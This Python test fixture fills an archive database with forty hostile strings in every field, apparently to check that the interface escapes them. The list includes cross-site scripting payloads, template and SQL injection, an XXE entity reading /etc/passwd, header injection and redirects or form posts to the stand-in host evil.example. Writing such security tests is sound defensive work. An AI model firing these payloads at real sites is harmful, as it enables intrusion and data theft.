"""Forty things that strangers may write into a field, and an archive in which they stand in every one."""

from datetime import timedelta
from typing import Final

from sqlalchemy import Engine, delete, insert, update

from archive.people import notes, tags
from archive.query.search import Asked
from archive.query.search.saved import add
from archive.store.db import writing
from archive.store.models import Alarm, Article, Capture, CrawlRun, Problem, Revision, Sighting
from tests.archive.make import DAY, article, captured, store

RUN: Final = "window.ran=1;alert(1)"
ATTACKS: Final = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'"><script>{RUN}</script>',
    f"'><img src=x onerror={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"<!--><script>{RUN}</script-->",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<details open ontoggle={RUN}>",
    f"<body onload={RUN}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example/><input name=x><button autofocus>",
    f'" autofocus onfocus="{RUN}',
    f"' onmouseover='{RUN}",
    f"` onclick=`{RUN}",
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    "//evil.example/x",
    "https://evil.example/\"onmouseover='x'",
    "</style><style>body{background:url(https://evil.example/c)}",
    "x;background:url(//evil.example/c)",
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('window.ran=1')()}}",
    "'; DROP TABLE article; --",
    "' OR 1=1 UNION SELECT 1,2,3 --",
    "\u202egnp.exe\u202c\u2066evil\u2069\u200f",
    "\x1b]0;evil\x07\x1b[31mred\x1b[0m\x9b31m",
    "\u2028\u2029\x00\x08\ufffe]]><!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "%3Cscript%3E%0d%0aSet-Cookie:x=1\r\nSet-Cookie: x=1",
)


def attacked(engine: Engine) -> list[int]:
    """Fills an archive: an article an attack, with it in every field, and whatever else is shown of it. Gives their
    numbers."""
    assert len(ATTACKS) == 40
    bodies = [f"第{number}篇的正文，{'甲乙丙丁戊己庚辛壬癸'[number % 10] * 30}，稀土。" for number in range(40)]
    items = [captured(article(f"a:{n}", body), hours=n) for n, body in enumerate(bodies)]
    ids = [one.article_id for one in store(engine, *items)]
    with writing(engine) as connection:
        connection.execute(
            insert(CrawlRun).values(
                id=1, kind="crawl", sites=list(ATTACKS[:3]), started_at=DAY, state="failed", detail=ATTACKS[0]
            )
        )
        for number, (attack, body) in enumerate(zip(ATTACKS, bodies, strict=True)):
            key = ids[number]
            assert key is not None
            attack = attack.replace("\x00", "")  # which no database holds
            words = dict.fromkeys(("headline", "original_title", "source_name", "account_name", "editor"), attack)
            fields = {
                **words,
                "body": f"{attack}\n{body}",
                "location": attack,
                "url": attack,
                "native_id": f"{attack}{number}",
                "template": attack,
                "authors": [attack],
                "keywords": [attack],
                "flags": [attack],
                "images": [{"url": attack, "caption": attack}],
                "blocks": _blocks(attack, body),
                "revision": 2,
            }
            connection.execute(update(Article).where(Article.id == key).values(**fields))
            connection.execute(delete(Revision).where(Revision.article_id == key))
            values = {"article_id": key, "digest": "x", "captured_at": DAY}
            old = {**values, "number": 1, "headline": attack, "body": f"{attack}旧"}
            new = {**values, "number": 2, "headline": None, "body": None, "captured_at": DAY + timedelta(hours=5)}
            connection.execute(insert(Revision), [old, new])
            telling = dict.fromkeys(("url", "detail", "digest", "content_type", "template", "warc_file"), attack)
            connection.execute(update(Capture).where(Capture.article_id == key).values(**telling))
            sighting = {"site": "clip", "source": attack, "native_id": fields["native_id"], "url": attack}
            seen = {"title": attack, "first_seen_at": DAY, "last_seen_at": DAY, "times_seen": 1}
            connection.execute(insert(Sighting).values(**sighting, **seen))
            problem = {"run_id": 1, "kind": "doubtful", "cause": attack, "site": attack, "url": attack}
            connection.execute(insert(Problem).values(**problem, detail=attack, template=attack))
            alarm = {"site": attack, "measure": attack, "scope": attack, "usual": attack, "now": attack}
            example = [{"capture_id": None, "url": attack}]
            connection.execute(
                insert(Alarm).values(
                    **alarm, examples=example, next_command=attack, raised_at=DAY, told_at=DAY, run_id=1
                )
            )
            shown = "".join(char for char in attack if char.isprintable())
            notes.add(connection, key, f"{shown} 批注", by=attack, now=DAY)
            tags.add(connection, key, shown[:40], by=attack, now=DAY)
        add(connection, "<script>alert(1)</script>", Asked(text='"img src=x onerror=alert"'), by=ATTACKS[1], now=DAY)
    return [key for key in ids if key is not None]


def _blocks(attack: str, body: str) -> list[dict[str, object]]:
    return [
        {"kind": "paragraph", "text": attack, "links": [[0, len(attack), attack]]},
        {"kind": "heading", "text": attack, "level": 2},
        {"kind": "image", "text": attack, "url": attack},
        {"kind": "caption", "text": attack},
        {"kind": "list_item", "text": attack, "level": 1},
        {"kind": "table", "text": f"{attack}\t{attack}", "level": 1},
        {"kind": "code", "text": attack},
        {"kind": "quote", "text": attack},
        {"kind": attack, "text": attack},
        {"kind": "paragraph", "text": body},
    ]
